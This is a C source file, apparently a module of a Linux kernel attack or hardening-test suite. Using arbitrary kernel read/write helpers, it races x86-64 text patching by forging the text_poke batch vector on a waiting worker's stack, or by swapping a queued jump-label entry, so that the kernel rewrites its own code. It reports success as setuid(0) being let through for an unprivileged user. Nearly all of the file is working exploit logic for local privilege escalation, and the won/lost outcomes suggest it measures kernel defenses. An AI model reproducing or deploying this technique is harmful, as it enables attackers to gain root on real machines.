// SPDX-License-Identifier: GPL-2.0-only
/*
 * The kernel asks of each place whether it is one to be patched, and then waits for
 * locks, which are made to look held. A worker that patches on the other CPU waits for
 * that of the table by which text is written: the array that it goes through, and its
 * length, are on the stack, and one place more is put there. Or it waits for the mutex of
 * all who patch: what it has on the stack is an entry that was asked about.
 */
#include <unistd.h>

#include "attack.h"
#include "held.h"
#include "list.h"
#include "objects.h"
#include "patching.h"

#ifdef __x86_64__
#define BATCH		"text_poke_bp_batch"
#define BATCH_LENGTH	0x1c0		/* at most */
#define ASKED		"arch_jump_label_transform_queue"
#define ASKED_LENGTH	0x70
#define QUEUE_MAX	64
#define PAUSE		10000		/* microseconds */
#define PATIENCE	300		/* pauses */
#define SETTLE		100000		/* microseconds, for what cannot be seen */
#define TRIES		3

struct place {
	uint64_t addr;
	unsigned char off;		/* its first byte while the key is off */
};

static struct {
	struct place own, code;		/* the first of the key's, and ours */
	uint64_t entry, own_entry, target, key, vector;
	bool on;
} jump;

static struct place make_place(uint64_t addr)
{
	struct place place = { .addr = addr };

	kread(addr, &place.off, sizeof(place.off));
	return place;
}

static bool is_on(const struct place *place)
{
	return make_place(place->addr).off != place->off;
}

/* ---- what is changed ---- */

static bool forge_vector(uint64_t queue, unsigned int nr)
{
	struct text_poke_loc locs[QUEUE_MAX + 1];

	if (nr > QUEUE_MAX || kread(queue, locs, nr * sizeof(*locs)))
		return false;
	locs[nr] = jump.on ? make_jump(jump.code.addr, jump.target) : make_nop(jump.code.addr);
	return !kwrite(jump.vector, locs, (nr + 1) * sizeof(*locs));
}

/* Registers are pushed in one order: the length, in r12, is above the array, in rbx. */
static bool change_batch(const struct held_change *change, uint64_t addr, const uint64_t *words)
{
	uint64_t at, queue = queued_patches(&at);
	unsigned int nr = kread64(at);
	int i;

	(void)change;
	for (i = -HELD_BELOW; queue && nr && i < -1; i++)
		if (words[i] == queue && words[i + 1] == nr)
			break;
	if (!queue || !nr || i == -1 || !forge_vector(queue, nr))
		return false;
	addr += i * sizeof(*words);
	kwrite64(addr, jump.vector);
	kwrite64(addr + sizeof(*words), nr + 1);
	return true;
}

/* Not those above the way back: the caller goes on to the next entry by them. */
static bool change_entry(const struct held_change *change, uint64_t addr, const uint64_t *words)
{
	(void)change;
	return held_replace(addr, words, jump.own_entry, jump.entry);
}

/* ---- the key on and off ---- */

static bool is_patched(const struct held_change *change)
{
	(void)change;
	return is_on(&jump.own) == jump.on;
}

static bool is_settled(void)
{
	if (!held_is_done())
		return false;
	return jump.on ? (int)kread64(jump.key) == 1 : !is_on(&jump.own) && !is_on(&jump.code);
}

static void wait_until_settled(void)
{
	int i;

	for (i = 0; i < PATIENCE && !is_settled(); i++)
		usleep(PAUSE);
	usleep(SETTLE);
}

/* What was done in the place of its own has to be undone so: the kernel looks for it there. */
static bool is_to_be_changed(void)
{
	return jump.on ? !is_on(&jump.code) : is_on(&jump.code) || !is_on(&jump.own);
}

static void turn(bool on, const struct held_lock *lock, const struct held_change *way)
{
	jump.on = on;
	if (is_to_be_changed())
		held_act(lock, way);
	else
		held_ask();
	wait_until_settled();
}

static bool put_back(const struct held_lock *lock, const struct held_change *way)
{
	int i;

	turn(false, lock, way);
	for (i = 1; i < TRIES && is_on(&jump.code); i++) {
		turn(true, lock, way);
		turn(false, lock, way);
	}
	return !is_on(&jump.code);
}

static enum outcome jump_by(struct held_lock lock, const struct held_change *way)
{
	int err;

	if (!lock.addr)
		return lost("there is no such lock");
	turn(true, &lock, way);
	err = !is_root_for_the_asking();
	if (!put_back(&lock, way))
		return broken("the text was not put back");
	if (err)
		return lost("the kernel patched its own places only");
	return won("the kernel patched its own text after a wait for %s: setuid(0) by uid=%d is let through",
		   lock.hand_on ? "its mutex" : "a table", getuid());
}

static bool prepare(void)
{
	struct kernel_page page;
	uint64_t code;

	jump.key = ksymbol(KEY);
	jump.own_entry = patched_entry();
	jump.code = make_place(find_code());
	jump.target = find_target();
	jump.entry = room_near_text();
	code = entry_code(jump.own_entry);
	if (!jump.key || kread64(jump.key) || !jump.code.addr || !jump.target ||
	    !jump.entry || !code || !kernel_page(&page))
		return false;
	jump.own = make_place(code);
	jump.vector = page.addr;
	return !write_entry(jump.entry, jump.code.addr, jump.target, jump.key);
}

enum outcome jump_held(void)
{
	const struct held_change batch = { BATCH, BATCH_LENGTH, change_batch, is_patched, NULL };
	const struct held_change entry = { ASKED, ASKED_LENGTH, change_entry, held_is_never_over, NULL };
	enum outcome outcome = LOST;
	int i;

	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
		return skipped("needs a second CPU");
	held_start(switch_over);
	if (!prepare())
		return broken("no static key, no room, or no place that can be patched");
	for (i = 0; i < TRIES && outcome == LOST; i++)
		outcome = jump_by(held_table(), &batch);
	if (outcome == LOST)
		outcome = jump_by(held_mutex(), &entry);
	held_stop();
	clear_entry(jump.entry);
	return outcome;
}
#else
enum outcome jump_held(void)
{
	return skipped("x86-64 only");
}
#endif
